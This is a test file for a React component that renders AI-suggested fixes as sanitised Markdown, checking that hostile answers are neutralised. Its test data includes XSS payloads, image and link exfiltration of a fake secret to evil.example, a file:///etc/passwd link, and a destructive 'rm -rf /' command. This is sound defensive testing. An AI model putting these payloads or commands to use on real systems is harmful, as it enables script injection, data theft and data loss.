import { render, screen, within } from '@testing-library/react';
import { userEvent } from '@testing-library/user-event';
import { beforeAll, beforeEach, describe, expect, it, test } from 'vitest';
import { Answer, preloadAnswer } from '../../../../src/suggestFix/answer.tsx';

beforeAll(preloadAnswer);
beforeEach(() => {
  // jsdom has no modal dialogs; the attribute is what makes the content reachable.
  HTMLDialogElement.prototype.showModal = function showModal() {
    this.open = true;
  };
  HTMLDialogElement.prototype.close = function close() {
    this.open = false;
    this.dispatchEvent(new globalThis.Event('close'));
  };
});

/** Draws a whole answer; the words of its end show that it is drawn. */
async function draw(text: string, isGrowing = false) {
  const view = render(<Answer text={`${text}\n\nThe end of it.`} isGrowing={isGrowing} />);
  await screen.findByText('The end of it.');
  return view.container;
}

describe('a hostile answer', () => {
  const hostile = [
    '<script>alert(1)</script>',
    'Text <img src=x onerror=alert(1)> and <b onclick=alert(1)>bold</b>',
    '<iframe src="https://evil.example/"></iframe>',
    '<style>body { display: none }</style>',
    '<form action="https://evil.example/"><input name=q></form>',
    '[click](javascript:alert(1))',
    '[click](  JaVaScRiPt:alert(1))',
    '[click](data:text/html;base64,PHNjcmlwdD4=)',
    '[click](vbscript:x)',
    '[click](file:///etc/passwd)',
    '[click](https://evil.example/?secret=sk-123)',
    '<https://evil.example/auto>',
    'https://evil.example/bare and www.evil.example/www and mail@evil.example',
    '[click][ref]\n\n[ref]: https://evil.example/ref',
    '![pixel](https://evil.example/pixel.png?secret=sk-123)',
    '![pixel][ref]\n\n[ref]: https://evil.example/ref.png',
    '[![pixel](https://evil.example/in-link.png)](https://evil.example/out)',
    'Note[^1]\n\n[^1]: a footnote with https://evil.example/note',
    '| a | b |\n|---|---|\n| ![x](https://evil.example/cell.png) | <script>alert(1)</script> |',
    '> ![x](https://evil.example/quote.png)\n> - [x](javascript:alert(1))',
  ];
  test.each(hostile)('%s: no live link, no element that loads or runs, no id, no style', async (text) => {
    const drawn = await draw(text);
    expect(
      drawn.querySelectorAll('a, img, script, style, iframe, form, object, embed, link, video, audio'),
    ).toHaveLength(0);
    expect(drawn.querySelectorAll('[src], [href], [srcset], [id], [onclick], [onerror]')).toHaveLength(0);
  });

  it('shows raw HTML as the text that it is', async () => {
    const drawn = await draw('<script>alert(1)</script>');
    expect(drawn).toHaveTextContent('<script>alert(1)</script>');
  });

  it('shows an image as its words and its address', async () => {
    const drawn = await draw('See ![the pixel](https://evil.example/p.png?x=1)');
    expect(drawn).toHaveTextContent('[image not loaded: the pixel, https://evil.example/p.png?x=1]');
  });

  it('asks before a link opens, with its whole target, and gives it no way back', async () => {
    const target = `https://evil.example/${'x'.repeat(200)}?secret=1`;
    await draw(`[the docs](${target})`);
    expect(screen.getByText('the docs')).toBeVisible();
    await userEvent.click(screen.getByRole('button', { name: 'Open evil.example…' }));
    const dialog = within(screen.getByRole('dialog', { name: 'Leave for evil.example?' }));
    expect(dialog.getByText(target)).toBeVisible();
    const leave = dialog.getByRole('link', { name: 'Open in a new tab' });
    expect(leave).toHaveAttribute('href', target);
    expect(leave).toHaveAttribute('rel', 'noopener noreferrer');
    await userEvent.click(dialog.getByRole('button', { name: 'Close' }));
    expect(screen.queryByRole('dialog')).toBeNull();
    expect(document.querySelector('a')).toBeNull();
  });

  it('shows a target of look-alike letters as where it goes', async () => {
    const drawn = await draw('[openai.com](https://оpenai.com/)');
    expect(drawn).toHaveTextContent('https://xn--penai-iye.com/');
  });

  it('marks commands and addresses of a text that is not drawn as Markdown, and what nobody sees', async () => {
    const deep = '> '.repeat(120);
    const drawn = await draw(
      `${deep}x\nRun npm i evil-x\nSee https://evil.example/a and \u202Eb\nRun \`pip install y\``,
    );
    const plain = drawn.querySelector('p');
    const marks = [...(plain?.querySelectorAll('small') ?? [])].map((mark) => mark.parentElement?.textContent);
    expect(marks).toEqual([
      'Command from the answer, not runRun npm i evil-x\n',
      'Command from the answer, not runRun `pip install y`',
    ]);
    expect(plain).toHaveTextContent('<U+202E>b');
    expect(drawn.querySelector('a')).toBeNull();
    const address = [...(plain?.querySelectorAll('span span') ?? [])].map((one) => one.textContent);
    expect(address).toEqual(['https://evil.example/a']);
  });

  it('marks a command that goes over lines', async () => {
    const deep = '> '.repeat(120);
    const drawn = await draw(`${deep}x\nnpm\ninstall evil\n`);
    expect(drawn.querySelector('p small')).toHaveTextContent('Command from the answer, not run');
  });

  it('marks a text with more commands than there are marks', async () => {
    const many = await draw(`${'> '.repeat(120)}x\n${'npm i evil-x\n'.repeat(3000)}`);
    expect(many.querySelectorAll('p small').length).toBeLessThan(1000);
    expect(many.querySelectorAll('p small').length).toBeGreaterThan(100);
  });

  test.each(['>', '- ', '1. '])('survives a nesting (%j) that no drawing can take, as plain text', async (mark) => {
    const drawn = await draw(`${mark.repeat(10_000)} deep`);
    expect(drawn).toHaveTextContent('deep');
  });

  it('keeps what is beyond the part that is drawn', () => {
    render(<Answer text={`${'word '.repeat(20_000)}last`} isGrowing={false} />);
    expect(screen.getByText(/last$/)).toBeVisible();
  });
});

describe('an honest answer', () => {
  it('draws heads below the panel’s own, lists and tables', async () => {
    await draw('# Cause\n\n## Fix\n\n- one\n- two\n\n| a | b |\n|---|--:|\n| 1 | 2 |');
    expect(screen.getByRole('heading', { name: 'Cause', level: 3 })).toBeVisible();
    expect(screen.getByRole('heading', { name: 'Fix', level: 3 })).toBeVisible();
    expect(screen.getAllByRole('listitem')).toHaveLength(2);
    expect(within(screen.getByRole('region', { name: 'Table' })).getAllByRole('cell')).toHaveLength(2);
  });

  it('marks code as the answer’s, and copies it as it is', async () => {
    const user = userEvent.setup();
    await draw('```python\ndef charge(x):\n    return x\n```');
    expect(screen.getByText('From the answer')).toBeVisible();
    expect(screen.getByText('python')).toBeVisible();
    await user.click(screen.getByRole('button', { name: 'Copy code' }));
    expect(await navigator.clipboard.readText()).toBe('def charge(x):\n    return x');
  });

  test.each(['bash', 'sh', 'PowerShell'])('marks a command (%s) as one that nobody ran', async (language) => {
    await draw(`\`\`\`${language}\nrm -rf /\n\`\`\``);
    expect(screen.getByText('Command from the answer, not run')).toBeVisible();
  });

  it('leaves the elements of finished blocks alone while the last grows', async () => {
    const view = render(<Answer text={'First block.\n\nSecond'} isGrowing />);
    const first = await screen.findByText('First block.');
    view.rerender(<Answer text={'First block.\n\nSecond block.\n\nThird'} isGrowing />);
    expect(await screen.findByText('Third')).toBeVisible();
    expect(screen.getByText('First block.')).toBe(first);
    expect(first).toBeVisible();
  });
});
